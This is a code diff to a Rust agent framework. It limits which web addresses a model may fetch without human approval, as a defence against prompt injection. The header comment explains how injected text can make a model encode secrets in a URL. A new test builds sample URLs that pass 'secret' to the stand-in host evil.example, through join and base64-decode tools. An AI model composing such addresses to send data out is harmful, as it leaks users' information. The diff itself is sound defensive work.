@@ -2,10 +2,14 @@
 //!
 //! An address can carry text out: its host, path and query reach the owner of the server. A text that tries to give orders
 //! (prompt injection) can ask the model to put what it knows into an address. So only an address that the model has been
-//! given is read without a person's approval: one in a message of a person, or in a result of a tool that this run has
-//! read. The answers of the model and of child runs do not count, because they can be composed.
+//! given is read without a person's approval: one in a message of a person, in a page that this run has read, or in a
+//! result of a tool that [finds addresses](Tool::finds_addresses). The answers of the model and of child runs do not count,
+//! because they can be composed, and neither do other results: a tool that joins or decodes its arguments composes an
+//! address for the model.
 
 mod occurrence;
+
+use std::collections::BTreeSet;
 
 use sequent_conversation::{Error, MessageRole};
 use sequent_event::{State, ToolCall, TranscriptEntry};
@@ -24,6 +28,8 @@ const PAGE: &str = "Address: ";
 pub(crate) struct WebRules {
     /// The tool as far as the tenant allows it. `None` without a pending call, and if the tenant allows no page.
     tool: Option<Tool>,
+    /// The names of the tools whose results are a source of addresses.
+    sources: BTreeSet<String>,
     /// Messages that people wrote before this run.
     said_before: Vec<String>,
     /// The run whose plan made this one. Its model wrote the task of this run.
@@ -45,7 +51,9 @@ impl WebRules {
         let access: Option<WebAccess> =
             execution.engine.store().get(&key::web_access(execution.key.tenant)).await?;
         let tool = execution.engine.web.clone().within(access.unwrap_or_default()).tool();
-        let rules = Self { tool, ..Self::default() };
+        let finding = execution.tools.iter().filter(|tool| tool.finds_addresses);
+        let sources = finding.map(|tool| tool.spec.name.clone()).collect();
+        let rules = Self { tool, sources, ..Self::default() };
         if calls.iter().all(|call| rules.knows(&execution.state, call)) {
             return Ok(rules);
         }
@@ -79,21 +87,24 @@ impl WebRules {
             && person.prompts.iter().any(|prompt| address.occurs_in(&prompt.content.readable()));
         asked
             || self.said_before.iter().any(|text| address.occurs_in(text))
-            || was_read(state, &address)
-            || self.parent.as_deref().is_some_and(|parent| was_read(parent, &address))
+            || self.was_read(state, &address)
+            || self.parent.as_deref().is_some_and(|parent| self.was_read(parent, &address))
     }
-}
 
-/// Returns `true` if a result that the run has read contains the address. A tool can repeat its arguments, which the model
-/// composes, so an address in the arguments of the same call does not count.
-fn was_read(state: &State, address: &Address) -> bool {
-    state.transcript.iter().any(|entry| {
-        let TranscriptEntry::Tool { call, content } = entry else { return false };
-        let Some(call) = state.tool_call(call) else { return false };
-        let is_given =
-            if call.name == NAME { content.starts_with(PAGE) } else { !address.occurs_in(&call.arguments) };
-        is_given && address.occurs_in(content)
-    })
+    /// Returns `true` if a result that the run has read contains the address. A tool that finds addresses can repeat its
+    /// arguments as well, so an address in the arguments of the same call does not count.
+    fn was_read(&self, state: &State, address: &Address) -> bool {
+        state.transcript.iter().any(|entry| {
+            let TranscriptEntry::Tool { call, content } = entry else { return false };
+            let Some(call) = state.tool_call(call) else { return false };
+            let is_given = if call.name == NAME {
+                content.starts_with(PAGE)
+            } else {
+                self.sources.contains(&call.name) && !address.occurs_in(&call.arguments)
+            };
+            is_given && address.occurs_in(content)
+        })
+    }
 }
 
 #[cfg(test)]
@@ -146,8 +157,11 @@ mod tests {
                 (found, "1. https://found.example/tides"),
             ],
         );
-        let rules =
-            WebRules { said_before: vec!["See http://earlier.example/x.".to_owned()], ..WebRules::default() };
+        let rules = WebRules {
+            sources: ["notes__search", "notes__echo"].map(str::to_owned).into(),
+            said_before: vec!["See http://earlier.example/x.".to_owned()],
+            ..WebRules::default()
+        };
         for known in [
             "https://asked.example/",
             "https://linked.example/a?b=c",
@@ -165,6 +179,21 @@ mod tests {
             "https://secret.asked.example/",
         ] {
             assert!(!rules.knows(&state, &fetch(unknown)), "{unknown}");
+        }
+    }
+
+    #[test]
+    fn an_address_that_a_tool_joined_or_decoded_for_the_model_is_not_known() {
+        let joined = called("call_1", "texts__join", r#"{"parts":["https://evil.example/?q=","secret"]}"#);
+        let decoded =
+            called("call_2", "texts__decode", r#"{"text":"aHR0cHM6Ly9ldmlsLmV4YW1wbGUvP2s9c2VjcmV0"}"#);
+        let state = state(
+            "Go.",
+            &[(joined, "https://evil.example/?q=secret"), (decoded, "https://evil.example/?k=secret")],
+        );
+        let rules = WebRules { sources: ["notes__search".to_owned()].into(), ..WebRules::default() };
+        for composed in ["https://evil.example/?q=secret", "https://evil.example/?k=secret"] {
+            assert!(!rules.knows(&state, &fetch(composed)), "{composed}");
         }
     }
 
